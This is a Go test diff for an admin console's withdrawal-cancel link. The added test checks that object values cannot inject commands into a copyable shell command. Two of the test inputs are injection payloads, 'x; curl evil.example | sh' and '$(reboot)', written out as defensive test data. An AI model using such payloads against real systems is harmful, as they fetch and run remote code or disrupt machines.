@@ -357,3 +357,17 @@ func (o *office) withdraw(from bursar.ID) (bursar.Withdrawal, error) {
 	return o.Withdrawals.Request(context.Background(), withdrawal.Request{Account: from, Currency: "COIN", Amount: "0.001",
 		Address: o.Chain.Named("buyer")})
 }
+
+// A link to a form names the object: what a shell would run never stands in the command that is there to be copied.
+func TestALinkPutsNothingIntoACommand(t *testing.T) {
+	t.Parallel()
+	o := newOffice(t, storetest.Open(t, storetest.Reused(t)))
+	for object, want := range map[string]bool{o.token(): true, "x; curl evil.example | sh": false, "$(reboot)": false} {
+		r := httptest.NewRequest(http.MethodGet, base+"/do/withdrawal.cancel?object="+url.QueryEscape(object), nil)
+		w := httptest.NewRecorder()
+		o.console.ServeHTTP(w, r)
+		if got := strings.Contains(w.Body.String(), "bursar withdrawal cancel"); w.Code != http.StatusOK || got != want {
+			t.Errorf("%s: answered %d with the command %v, want %v", object, w.Code, got, want)
+		}
+	}
+}
